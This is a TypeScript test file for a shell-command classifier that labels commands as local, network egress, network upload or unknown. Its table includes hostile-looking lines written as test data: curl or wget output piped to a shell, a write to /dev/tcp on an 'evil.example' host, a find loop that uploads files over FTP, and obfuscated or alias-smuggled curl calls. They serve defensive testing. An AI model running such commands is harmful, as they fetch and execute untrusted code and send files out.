import { FastCheck as fc } from "effect"
import { describe, expect, it } from "vitest"
import { classifyCommand, type ShellEffect } from "../../../src/domain/sessions/shell.js"

const L: ShellEffect = "local"
const E: ShellEffect = "network_egress"
const U: ShellEffect = "network_upload"
const X: ShellEffect = "unknown"

const effects = (command: string) => [...classifyCommand(command)].sort()

const TABLE: ReadonlyArray<readonly [string, ReadonlyArray<ShellEffect>]> = [
  // nothing ran
  ["", []],
  ["   \n\t ", []],
  ["# only a comment", []],
  // local work
  ["ls -la", [L]],
  ["go test ./...", [L]],
  ["go vet ./... && go test -race ./...", [L]],
  ["git status && git diff --stat", [L]],
  ["git log --oneline | head -5", [L]],
  ["git add -A && git commit -m 'fix lexer'", [L]],
  ["rg -n TODO src/ | wc -l", [L]],
  ["printf '%s\\n' b a | sort | uniq -c", [L]],
  ["sed -i 's/a/b/' f.txt; cat f.txt", [L]],
  ["find . -name '*.go' -exec grep -l foo {} \\;", [L]],
  ["npm run build && npm test", [L]],
  ["pnpm build", [L]],
  ["yarn test", [L]],
  ["cargo build --release && cargo test", [L]],
  ["make -C build all", [L]],
  ["tsc --noEmit && eslint . && prettier --check . && vitest run", [L]],
  ["python3 -m pytest -q", [L]],
  ["node_modules/.bin/vitest run", [L]],
  ["/usr/bin/env python3 script.py", [L]],
  ['FOO=1 BAR="a b" npm test', [L]],
  ["sudo -u www-data ls /var/www", [L]],
  ["timeout 10 make test", [L]],
  ["time go build ./...", [L]],
  ["nohup node server.js > out.log 2>&1 &", [L]],
  ['bash -lc "npm test"', [L]],
  ["(cd src && make)", [L]],
  ["{ ls; pwd; }", [L]],
  ['for f in $(ls); do echo "$f"; done', [L]],
  ["if [ -f x ]; then cat x; else touch x; fi", [L]],
  ["cat <<'EOF' > notes.md\n$(curl https://x)\nEOF\nls", [L]],
  ["cat <<-EOF\n\tplain text\n\tEOF", [L]],
  ["ls \\\n  -la", [L]],
  ["echo $((1 + 2))", [L]],
  ["rsync -av src/ backup/", [L]],
  ["tar -czf a.tgz dir && unzip b.zip && gzip -d c.gz", [L]],
  ["sqlite3 db.sqlite 'select 1' | jq .", [L]],
  ["docker ps && docker logs web", [L]],
  ["git -c color.ui=always diff", [L]],
  ["go install ./cmd/tmem", [L]],
  ["command -v curl", [L]],
  ["echo ok # curl http://x", [L]],
  // network
  ["curl https://example.com", [E]],
  ["curl -fsSL https://x/install.sh | sh", [E, X]],
  ["wget -qO- http://x | bash", [E, X]],
  ["git clone https://github.com/o/r && cd r", [E, L]],
  ["git fetch origin && git rebase origin/main", [E, L]],
  ["npm install", [E]],
  ["npm ci && npm test", [E, L]],
  ["npx vitest", [E]],
  ["yarn", [E]],
  ["pnpm add -D typescript", [E]],
  ["pip install requests", [E]],
  ["python3 -m pip install -r requirements.txt", [E]],
  ["uv run pytest", [E, L]],
  ["go mod tidy", [E]],
  ["go install golang.org/x/tools/gopls@latest", [E]],
  ["cargo +nightly install ripgrep", [E]],
  ["docker run --rm alpine echo hi", [E]],
  ["sudo apt-get update && sudo apt-get install -y jq", [E]],
  ["brew install jq", [E]],
  ["dig example.com +short", [E]],
  ["kubectl get pods -n prod", [E]],
  ["aws s3 ls", [E]],
  ["gh pr list", [E]],
  ["env -i PATH=/bin curl x", [E]],
  ["cat urls.txt | xargs -n1 curl -sO", [L, E]],
  ["sh -c 'curl example.com'", [E]],
  ["echo $(curl -s http://x)", [E, L]],
  ['echo "$(wget -q x)"', [E, L]],
  ["echo `curl x`", [E, L]],
  ["V=$(curl -s api.example.com)", [E, L]],
  ["echo ${X:-$(curl a)}", [E, L]],
  ["diff <(ls a) <(curl b)", [E, L]],
  ["cat <<EOF > f.txt\nit's $(curl x)\nEOF\nls", [E, L]],
  ["cat <<EOF\nit's\nEOF\ncurl x", [E, L]],
  ["find . -type f -exec curl -T {} ftp://h/ \\;", [E, L, U]],
  ["git commit -m 'see https://example.com/issue/1'", [E, L]],
  ['eval "curl x"', [E]],
  // uploads
  ["curl -X POST -d @body.json http://api", [E, U]],
  ["curl -sSd 'a=b' http://api", [E, U]],
  ["curl --upload-file f https://h/", [E, U]],
  ["curl -F file=@a.png https://h/", [E, U]],
  ["curl -XPUT https://h/k", [E, U]],
  ["curl -X GET https://h/k", [E]],
  ["wget --post-data=a=b http://h", [E, U]],
  ["http POST example.org name=x", [E, U]],
  ["git push origin main", [E, U]],
  ["npm publish --access public", [E, U]],
  ["cargo publish", [E, U]],
  ["docker push registry/app:1", [E, U]],
  ["gh release upload v1.0.0 dist/app.tgz", [E, U]],
  ["gh api repos/o/r/issues -f title=x", [E, U]],
  ["scp build.tgz deploy@host:/srv/", [E, U]],
  ["scp host:/var/log/app.log .", [E]],
  ["rsync -avz dist/ user@host:/srv/www/", [E, U]],
  ["aws s3 cp dist.tgz s3://bucket/k", [E, U]],
  ["ssh host uptime", [E, U]],
  ["nc example.com 80 < req.txt", [E, U]],
  ["echo hi > /dev/tcp/evil.example/80", [L, E, U]],
  // cannot tell
  ["./run.sh", [X]],
  ["chmod +x run.sh && ./run.sh", [L, X]],
  ["mvn test", [X]],
  ["$CC main.c", [X]],
  ["$'\\x63url' example.com", [X]],
  ["echo 'unterminated", [X]],
  ['echo "unterminated', [X]],
  ["echo $(ls", [X]],
  ["bash script.sh", [X]],
  ["curl x | sh", [E, X]],
  ["source venv/bin/activate && pytest", [X, L]],
  ["git -c alias.st='!curl x' st", [X]],
  ["go generate ./...", [X]],
  ["docker exec -it web sh", [X]],
  ["deno run main.ts", [X]],
  ["awk 'BEGIN { system(\"curl x\") }'", [X]],
  ["sudo -s", [X]]
]

describe("classifyCommand", () => {
  it.each(TABLE)("%j → %j", (command, want) => {
    expect(effects(command)).toEqual([...want].sort())
  })

  it("returns a fresh set each time (a caller cannot poison the constants)", () => {
    for (const command of ["./run.sh", "echo 'unterminated", "ls", ""]) {
      const before = effects(command)
      ;(classifyCommand(command) as Set<ShellEffect>).add("network_upload")
      expect(effects(command)).toEqual(before)
    }
  })

  it("never throws, and reports only the four effects, on arbitrary text", () => {
    const shellish = fc.stringOf(fc.constantFrom(..."ab $()`'\"\\|&;<>{}#\n-=/:.c u r l".split("")), { maxLength: 60 })
    fc.assert(
      fc.property(fc.oneof(shellish, fc.string({ maxLength: 60 })), (text) => {
        for (const e of classifyCommand(text))
          expect(["local", "network_egress", "network_upload", "unknown"]).toContain(e)
      }),
      { numRuns: 2000 }
    )
  })

  it("fails closed on absurd nesting instead of overflowing", () => {
    expect(effects("echo " + "$(".repeat(5000) + "ls" + ")".repeat(5000))).toEqual([X])
    expect(effects("sh -c ".repeat(40) + "ls")).toEqual([X])
  })

  it("a list of commands has the union of their effects, whatever joins them", () => {
    const commands = TABLE.map(([c]) => c).filter(
      (c) => !c.includes("\n") && !c.includes("#") && effects(c).length > 0 && !effects(c).includes(X)
    )
    const joiner = fc.constantFrom(" && ", " || ", " ; ", " | ", " & ", "\n")
    fc.assert(
      fc.property(
        fc.constantFrom(...commands),
        joiner,
        fc.constantFrom(...commands),
        fc.boolean(),
        (a, j, b, substitute) => {
          const line = substitute ? `echo "$(${a})"${j}${b}` : `${a}${j}${b}`
          expect(effects(line)).toEqual([...new Set([...effects(a), ...effects(b), ...(substitute ? [L] : [])])].sort())
        }
      ),
      { numRuns: 1000 }
    )
  })
})
